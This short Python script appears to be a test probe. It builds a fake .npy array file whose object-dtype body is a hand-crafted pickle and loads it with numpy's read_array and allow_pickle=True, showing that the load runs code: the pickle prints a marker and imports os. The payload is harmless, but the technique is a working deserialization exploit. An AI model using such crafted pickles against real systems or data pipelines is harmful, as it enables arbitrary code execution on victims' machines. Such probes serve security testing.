# attack: reads an array of objects from a stream of the script's own: such an array's content is a pickle
# family: numpy
import numpy
class Stream:
    def __init__(self, content):
        self.content = content
    def read(self, size=-1):
        size = len(self.content) if size < 0 else size
        got, self.content = self.content[:size], self.content[size:]
        return got
    def readline(self):
        return self.read(self.content.index(b"\n") + 1)
def reader(module):
    return module.lib.format.read_array
head = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
pickle = b"cbuiltins\nprint\n(S'REACHED by pickle'\ncbuiltins\n__import__\n(S'os'\ntRtR."
reader(numpy)(Stream(b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + pickle), allow_pickle=True)
